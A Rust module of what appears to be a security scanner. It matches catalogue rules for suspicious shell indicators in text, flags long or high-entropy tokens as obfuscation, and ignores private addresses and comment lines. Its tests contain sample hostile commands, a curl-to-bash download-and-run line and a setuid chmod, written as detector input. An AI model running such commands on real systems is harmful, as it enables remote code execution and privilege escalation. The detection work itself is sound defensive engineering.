//! Finds the indicators of the catalogue in a text.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::bytes::{Regex, RegexBuilder};

use super::catalogue::{RULES, Rule};
use super::shell;
use super::text::Lines;
use super::{Class, Level};

/// A match of a rule.
#[derive(Debug, Clone)]
pub(super) struct Hit {
    pub(super) class: Class,
    pub(super) name: &'static str,
    pub(super) level: Level,
    pub(super) offset: usize,
}

/// Places where one rule is looked at in one text.
const MOST_PLACES: usize = 200;
/// Length of a token without blanks that no reader would write.
const LONG_TOKEN: usize = 500;

struct Matcher {
    words: AhoCorasick,
    rules: Vec<Compiled>,
}

struct Compiled {
    rule: &'static Rule,
    /// Numbers of the words in the automaton.
    any: Vec<usize>,
    all: Vec<usize>,
    regex: Option<Regex>,
}

static MATCHER: LazyLock<Option<Matcher>> = LazyLock::new(|| {
    let mut words: Vec<&'static str> = Vec::new();
    let mut rules = Vec::new();
    for rule in RULES {
        let mut numbers = |wanted: &[&'static str]| -> Vec<usize> {
            let mut found = Vec::new();
            for word in wanted {
                let number = words.iter().position(|known| known == word);
                found.push(number.unwrap_or_else(|| {
                    words.push(word);
                    words.len() - 1
                }));
            }
            found
        };
        let (any, all) = (numbers(rule.any), numbers(rule.all));
        let regex = match rule.regex {
            "" => None,
            pattern => Some(
                RegexBuilder::new(pattern)
                    .unicode(false)
                    .multi_line(true)
                    .build()
                    .ok()?,
            ),
        };
        rules.push(Compiled {
            rule,
            any,
            all,
            regex,
        });
    }
    let words = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(words)
        .ok()?;
    Some(Matcher { words, rules })
});

/// True when the table compiled; a test asks.
#[cfg(test)]
pub(super) fn is_ready() -> bool {
    MATCHER.is_some()
}

/// All indicators of a text, at most one per rule. `comments` tells whether
/// lines that begin with `#` count.
pub(super) fn find(text: &[u8], lines: &Lines, comments: bool) -> Vec<Hit> {
    let Some(matcher) = MATCHER.as_ref() else {
        return Vec::new();
    };
    let mut places: Vec<Vec<usize>> = vec![Vec::new(); matcher.words.patterns_len()];
    for found in matcher.words.find_overlapping_iter(text) {
        if let Some(places) = places.get_mut(found.pattern().as_usize())
            && places.len() < MOST_PLACES
        {
            places.push(found.start());
        }
    }
    let counts = |offset: usize| comments || !is_comment(lines.text(text, offset));
    let mut hits = Vec::new();
    for compiled in &matcher.rules {
        let seen = |word: &usize| places.get(*word).is_some_and(|places| !places.is_empty());
        if !compiled.any.iter().any(seen) || !compiled.all.iter().all(seen) {
            continue;
        }
        let offset = match &compiled.regex {
            Some(regex) => {
                let mut level = None;
                let mut offset = None;
                for found in regex.find_iter(text).take(MOST_PLACES) {
                    if !counts(found.start()) || !is_accepted(compiled.rule.name, found.as_bytes())
                    {
                        continue;
                    }
                    let here = level_at(compiled.rule, lines.text(text, found.start()));
                    if level.is_none_or(|level| level < here) {
                        level = Some(here);
                        offset = Some(found.start());
                    }
                }
                offset.zip(level)
            }
            None => {
                let all = compiled
                    .any
                    .iter()
                    .filter_map(|word| places.get(*word))
                    .flatten()
                    .copied();
                all.filter(|offset| counts(*offset))
                    .min()
                    .map(|offset| (offset, compiled.rule.level))
            }
        };
        if let Some((offset, level)) = offset {
            let Rule { class, name, .. } = *compiled.rule;
            hits.push(Hit {
                class,
                name,
                level,
                offset,
            });
        }
    }
    hits
}

/// Names of the rules whose words occur, whether or not they apply.
pub(super) fn worded(text: &[u8]) -> Vec<&'static str> {
    let Some(matcher) = MATCHER.as_ref() else {
        return Vec::new();
    };
    let mut seen = vec![false; matcher.words.patterns_len()];
    for found in matcher.words.find_overlapping_iter(text) {
        if let Some(seen) = seen.get_mut(found.pattern().as_usize()) {
            *seen = true;
        }
    }
    let is_seen = |word: &usize| seen.get(*word).copied().unwrap_or(false);
    let with_words = matcher
        .rules
        .iter()
        .filter(|compiled| compiled.any.iter().any(is_seen));
    with_words.map(|compiled| compiled.rule.name).collect()
}

/// A token that is far too long, when there is one: name and offset.
pub(super) fn long_token(text: &[u8]) -> Option<Hit> {
    let mut offset = 0;
    for token in text.split(|byte| byte.is_ascii_whitespace()) {
        if token.len() >= LONG_TOKEN {
            let name = if entropy(token) > 4.5 {
                "high-entropy-token"
            } else {
                "long-token"
            };
            return Some(Hit {
                class: Class::Obfuscation,
                name,
                level: Level::Low,
                offset,
            });
        }
        offset += token.len() + 1;
    }
    None
}

/// Shannon entropy in bits per byte.
fn entropy(bytes: &[u8]) -> f64 {
    let mut counts = [0_u32; 256];
    for byte in bytes {
        if let Some(count) = counts.get_mut(usize::from(*byte)) {
            *count += 1;
        }
    }
    let total = bytes.len() as f64;
    let used = counts.iter().filter(|count| **count > 0);
    used.map(|count| {
        let share = f64::from(*count) / total;
        -share * share.log2()
    })
    .sum()
}

fn is_comment(line: &[u8]) -> bool {
    let line = line.trim_ascii_start();
    line.starts_with(b"#") && !line.starts_with(b"#!")
}

/// Downloads from hosts that set-up scripts commonly use are everyday.
fn level_at(rule: &Rule, line: &[u8]) -> Level {
    if rule.class != Class::DownloadAndRun || rule.level != Level::Medium {
        return rule.level;
    }
    let line = String::from_utf8_lossy(line);
    let mut urls = line
        .split([' ', '\t', '"', '\'', '`', '(', ')', '|', ';', '='])
        .map(|word| word.strip_prefix("git+").unwrap_or(word))
        .filter(|word| word.starts_with("http://") || word.starts_with("https://"))
        .peekable();
    if urls.peek().is_some() && urls.all(shell::is_known_url) {
        return Level::Low;
    }
    rule.level
}

/// What an expression cannot say.
fn is_accepted(name: &str, found: &[u8]) -> bool {
    match name {
        "bare-address-url" => is_public_address(found),
        "ssh-login" => !found.windows(4).any(|part| part == b"git@"),
        _ => true,
    }
}

/// True for a URL whose address is not private, local or link-local.
fn is_public_address(url: &[u8]) -> bool {
    let url = String::from_utf8_lossy(url);
    let Some((_, rest)) = url.split_once("://") else {
        return false;
    };
    let mut parts = rest
        .split(|letter: char| !letter.is_ascii_digit())
        .map(|part| part.parse::<u32>().unwrap_or(999));
    let mut next = || parts.next().unwrap_or(999);
    let (first, second, third, fourth) = (next(), next(), next(), next());
    if [first, second, third, fourth]
        .iter()
        .any(|part| *part > 255)
    {
        return false;
    }
    !matches!(
        (first, second),
        (0 | 10 | 127, _) | (172, 16..=31) | (192, 168) | (169, 254) | (100, 64..=127)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(text: &str) -> Vec<&'static str> {
        let lines = Lines::of(text.as_bytes());
        find(text.as_bytes(), &lines, false)
            .iter()
            .map(|hit| hit.name)
            .collect()
    }

    #[test]
    fn the_table_compiles_and_names_follow_one_pattern() {
        assert!(is_ready());
        for rule in RULES {
            assert!(!rule.any.is_empty(), "{} has no word", rule.name);
            assert!(
                rule.name
                    .bytes()
                    .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-'),
                "{}",
                rule.name
            );
            for word in rule.any.iter().chain(rule.all) {
                assert_eq!(*word, word.to_ascii_lowercase());
            }
        }
    }

    #[test]
    fn private_addresses_and_comments_do_not_count() {
        assert!(names("curl http://10.1.2.3/x").is_empty());
        assert!(names("# curl http://203.0.113.5/x | bash").is_empty());
        assert_eq!(names("curl http://203.0.113.5/x"), ["bare-address-url"]);
        assert_eq!(names("chmod 0755 x; chmod 4755 y"), ["setuid"]);
    }
}
